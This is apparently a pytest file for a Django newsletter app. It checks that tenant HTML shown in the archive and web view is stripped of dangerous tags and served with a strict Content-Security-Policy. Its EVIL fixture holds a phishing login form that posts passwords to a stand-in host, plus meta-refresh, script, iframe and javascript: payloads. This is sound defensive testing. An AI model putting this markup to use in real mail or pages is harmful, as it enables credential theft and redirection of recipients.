"""Tenant mail shown on our domain (archive, web view) cannot redirect, phish or script."""

import pytest
from django.db.models import F

from postroom.content.models import Message
from postroom.tracking.tests.helpers import html_of, message_for, paths, sent_campaign

pytestmark = pytest.mark.django_db

EVIL = """<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<p style="color: #c00">Hi {{ subscriber.first_name }}, please log in again:</p>
<form action="https://evil.example/steal" method="post">
  <input type="password" name="password"><button>Log in</button>
</form>
<script>alert(1)</script><iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object>
<a href="javascript:alert(1)">js</a> <a href="https://shop.example/">Shop</a>
<table width="600" bgcolor="#ffffff"><tr><td align="center">Cell</td></tr></table>"""
ACTIVE = ("http-equiv", "<form", "<input", "<button", "<base", "<script", "<iframe", "<object")


@pytest.fixture
def evil_campaign(owner, smtp_server):
    campaign, _run, subscribers = sent_campaign(owner, smtp_server, count=1)
    Message.objects.filter(pk=campaign.message_id).update(body=EVIL, version=F("version") + 1)
    return campaign, subscribers


def _assert_inert(response, link):
    page = response.content.decode().lower()
    assert response.status_code == 200
    for marker in ACTIVE:
        assert marker not in page, marker
    assert "javascript:" not in page
    # what mail is made of stays
    assert "please log in again" in page and 'bgcolor="#ffffff"' in page
    assert link in page and "color: #c00" in page
    policy = response["Content-Security-Policy"]
    for directive in (
        "script-src 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "sandbox",
    ):
        assert directive in policy


def test_the_archive_page_drops_refresh_forms_and_scripts(evil_campaign, client):
    campaign, _subscribers = evil_campaign
    mailing_list = campaign.lists.get()
    mailing_list.public_archive = True
    mailing_list.save()

    _assert_inert(
        client.get(f"/l/{mailing_list.public_id}/archive/{campaign.pk}/"),
        'href="https://shop.example/"',
    )


def test_the_web_view_drops_refresh_forms_and_scripts(evil_campaign, client, smtp_server):
    _campaign, subscribers = evil_campaign
    link = paths(html_of(message_for(smtp_server, subscribers[0].email)), "w")[0]

    _assert_inert(client.get(link), "/t/c/")  # links go through click tracking
